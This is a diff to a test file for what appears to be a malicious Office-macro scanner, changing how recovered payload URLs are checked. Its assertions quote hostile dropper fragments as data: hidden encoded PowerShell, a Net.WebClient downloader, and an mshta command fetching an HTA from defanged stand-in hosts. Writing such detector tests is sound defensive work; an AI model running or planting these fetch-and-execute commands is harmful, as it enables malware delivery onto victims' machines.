@@ -352,8 +352,10 @@ def test_sliced_literals_reassemble_the_encoded_powershell_and_its_urls() -> Non
     assert "lolbin: powershell" in hit.facts()["traits"]
     assert "downloader: Net.WebClient" in hit.facts()["traits"]
     assert recovered(hit).startswith(f"powershell -w hidden -e {ENCODED[:40]}")
-    assert "hxxp://198[.]51[.]100[.]10/wp-content/a/" in recovered(hit)
-    assert "hxxp://198[.]51[.]100[.]14/wp-content/e/" in recovered(hit)
+    urls = hit.facts()["urls"].split(", ")
+    assert urls == [
+        f"hxxp://198[.]51[.]100[.]{n}/wp-content/{c}/" for n, c in zip(range(10, 15), "abcde")
+    ]
 
 
 def test_sliced_literals_between_junk_lines() -> None:
@@ -391,7 +393,7 @@ def test_replace_of_a_filler_token() -> None:
     )
     hit = critical(code)
     assert recovered(hit).startswith("cmd /c powershell -e JAB")
-    assert "URLs: hxxp://198[.]51[.]100[.]10/" in recovered(hit)
+    assert hit.facts()["urls"].startswith("hxxp://198[.]51[.]100[.]10/")
 
 
 def test_strreverse_of_a_variable() -> None:
@@ -481,7 +483,7 @@ def test_payload_in_a_form_string() -> None:
         found = {h.id: h for h in hits.vba_hits(report, "attachment 2", "invoice.docm")}
         facts = dict(found["attachment.macro.autoexec_exec"].evidence[0].facts)
         assert facts["recovered"].startswith(defang(first[:40]))
-        assert "hxxp://198[.]51[.]100[.]12/" in facts["recovered"]
+        assert "hxxp://198[.]51[.]100[.]12/" in facts["urls"]
 
 
 def test_the_catalog_text_shows_what_was_recovered() -> None:
@@ -490,6 +492,7 @@ def test_the_catalog_text_shows_what_was_recovered() -> None:
     for lang in ("en", "ja"):
         texts = catalog.load().texts(hit.id, lang, hit.facts())
         assert "mshta.exe hxxp://203[.]0[.]113[.]8/inv.hta" in texts.explanation
+        assert texts.explanation.count("hxxp://203[.]0[.]113[.]8/inv.hta") == 2  # and the list
 
 
 # --- the same shapes without a dropper ----------------------------------------------------------
